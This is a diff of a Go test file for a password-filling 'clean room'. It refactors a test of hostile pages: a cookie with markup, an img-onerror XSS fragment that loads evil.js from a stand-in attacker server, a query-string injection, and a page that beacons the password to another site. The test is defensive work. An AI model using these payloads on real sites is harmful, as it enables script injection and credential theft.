@@ -3,14 +3,12 @@
 package cleanroom
 
 import (
-	"context"
 	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"sync"
 	"testing"
-	"time"
 
 	"github.com/fillgate/fillgate/internal/fill"
 	"github.com/fillgate/fillgate/tests/kit/sessionsite"
@@ -77,84 +75,78 @@ func (e *evil) count() int {
 // handover carries no stash. A page that sends the value to another site
 // is stopped there, and nothing is handed over.
 func TestHostileInputs(t *testing.T) {
-	for _, via := range []string{viaExtension, viaCDP} {
-		t.Run(via, func(t *testing.T) {
-			ctx, cancel := context.WithTimeout(t.Context(), 8*time.Minute)
-			defer cancel()
-			r := newRig(t, ctx, via)
-			site := sessionsite.Start(t)
-			reflect := site.Archetype("reflect")
-			bad := startEvil(t)
+	onBothPaths(t, func(t *testing.T, r *rig, site *sessionsite.Site) {
+		reflect := site.Archetype("reflect")
+		bad := startEvil(t)
 
-			// loginThrough logs in through the room from tb and checks
-			// that the script did not run there.
-			loginThrough := func(t *testing.T, tb *tab) {
-				secret := r.Secret(t)
-				site.SetPassword(secret)
-				tb.typeInto("user", sessionsite.User)
-				tb.focus(reflect.Field)
-				before := bad.count()
-				run := r.fill(t, "127.0.0.1")
-				run.types(t, secret)
-				res := run.result(t)
-				wantStatus(t, res, fill.StatusOK, "logged in in fillgate's clean room")
-				if n := bad.count() - before; n != 0 {
-					t.Errorf("the program's server heard %d requests during the fill: its script ran in the clean room", n)
-				}
-				tb.waitFor(`location.href.startsWith(` + quote(reflect.Home) + `)`)
-				var stash bool
-				tb.eval(`localStorage.getItem("stash") !== null`, &stash)
-				if stash {
-					t.Error("the handover carried what the program's script kept")
-				}
-				r.scanFillgate(t, secret)
+		// loginThrough logs in through the room from tb and checks
+		// that the script did not run there.
+		loginThrough := func(t *testing.T, tb *tab) {
+			secret := r.Secret(t)
+			site.SetPassword(secret)
+			tb.typeInto("user", sessionsite.User)
+			tb.focus(reflect.Field)
+			before := bad.count()
+			run := r.fill(t, "127.0.0.1")
+			run.types(t, secret)
+			res := run.result(t)
+			wantStatus(t, res, fill.StatusOK, "logged in in fillgate's clean room")
+			if n := bad.count() - before; n != 0 {
+				t.Errorf("the program's server heard %d requests during the fill: its script ran in the clean room", n)
 			}
+			tb.waitFor(`location.href.startsWith(` + quote(reflect.Home) + `)`)
+			var stash bool
+			tb.eval(`localStorage.getItem("stash") !== null`, &stash)
+			if stash {
+				t.Error("the handover carried what the program's script kept")
+			}
+			r.scanFillgate(t, secret)
+		}
 
-			t.Run("a cookie with markup is not copied in", func(t *testing.T) {
-				tb := r.open(t, reflect.Login)
-				tb.eval(`document.cookie = "banner=`+bad.tag()+`; path=/", document.cookie.includes("banner=")`, nil)
-				tb.eval(`location.reload(), true`, nil)
-				tb.waitFor(`document.getElementById("banner") && document.getElementById("banner").innerHTML.includes("evil.js")`)
-				loginThrough(t, tb)
-				tb.eval(`document.cookie = "banner=; max-age=0; path=/", true`, nil)
-			})
-
-			t.Run("a fragment that is not a route is not opened", func(t *testing.T) {
-				frag := url.PathEscape(`<img src=x onerror="document.head.append(Object.assign(document.createElement('script'),{src:'` + bad.url() + `/evil.js'}))">`)
-				tb := r.open(t, reflect.Login+"#"+frag)
-				loginThrough(t, tb)
-			})
-
-			t.Run("an address with markup in its query is refused", func(t *testing.T) {
-				secret := r.Secret(t)
-				site.SetPassword(secret)
-				tb := r.open(t, reflect.Login+"?msg="+url.QueryEscape(bad.tag()))
-				tb.typeInto("user", sessionsite.User)
-				tb.focus(reflect.Field)
-				before := bad.count()
-				res := r.fill(t, "127.0.0.1").result(t)
-				wantStatus(t, res, fill.StatusRefused, "the query of the agent's tab's address holds characters")
-				r.noDialog(t)
-				if n := bad.count() - before; n != 0 {
-					t.Errorf("the program's server heard %d requests during the fill", n)
-				}
-				if n := site.Received(secret); n != 0 {
-					t.Errorf("the site received the password %d times", n)
-				}
-			})
-
-			t.Run("a page that sends the password to another site is stopped", func(t *testing.T) {
-				beacon := site.Archetype("beacon")
-				tb, res, secret := r.typedLogin(t, site, beacon, "127.0.0.1")
-				wantStatus(t, res, fill.StatusRefused, "sent the password to another site, "+site.IdP)
-				if n := site.ReceivedAt(site.IdP, "/collect", secret); n != 0 {
-					t.Errorf("the other site received the password %d times", n)
-				}
-				if res.HandedOver != nil {
-					t.Error("a session was handed over from a page that sent the password away")
-				}
-				r.notHandedOver(t, tb, site, beacon, secret)
-			})
+		t.Run("a cookie with markup is not copied in", func(t *testing.T) {
+			tb := r.open(t, reflect.Login)
+			tb.eval(`document.cookie = "banner=`+bad.tag()+`; path=/", document.cookie.includes("banner=")`, nil)
+			tb.eval(`location.reload(), true`, nil)
+			tb.waitFor(`document.getElementById("banner") && document.getElementById("banner").innerHTML.includes("evil.js")`)
+			loginThrough(t, tb)
+			tb.eval(`document.cookie = "banner=; max-age=0; path=/", true`, nil)
 		})
-	}
+
+		t.Run("a fragment that is not a route is not opened", func(t *testing.T) {
+			frag := url.PathEscape(`<img src=x onerror="document.head.append(Object.assign(document.createElement('script'),{src:'` + bad.url() + `/evil.js'}))">`)
+			tb := r.open(t, reflect.Login+"#"+frag)
+			loginThrough(t, tb)
+		})
+
+		t.Run("an address with markup in its query is refused", func(t *testing.T) {
+			secret := r.Secret(t)
+			site.SetPassword(secret)
+			tb := r.open(t, reflect.Login+"?msg="+url.QueryEscape(bad.tag()))
+			tb.typeInto("user", sessionsite.User)
+			tb.focus(reflect.Field)
+			before := bad.count()
+			res := r.fill(t, "127.0.0.1").result(t)
+			wantStatus(t, res, fill.StatusRefused, "the query of the agent's tab's address holds characters")
+			r.noDialog(t)
+			if n := bad.count() - before; n != 0 {
+				t.Errorf("the program's server heard %d requests during the fill", n)
+			}
+			if n := site.Received(secret); n != 0 {
+				t.Errorf("the site received the password %d times", n)
+			}
+		})
+
+		t.Run("a page that sends the password to another site is stopped", func(t *testing.T) {
+			beacon := site.Archetype("beacon")
+			tb, res, secret := r.typedLogin(t, site, beacon, "127.0.0.1")
+			wantStatus(t, res, fill.StatusRefused, "sent the password to another site, "+site.IdP)
+			if n := site.ReceivedAt(site.IdP, "/collect", secret); n != 0 {
+				t.Errorf("the other site received the password %d times", n)
+			}
+			if res.HandedOver != nil {
+				t.Error("a session was handed over from a page that sent the password away")
+			}
+			r.notHandedOver(t, tb, site, beacon, secret)
+		})
+	})
 }
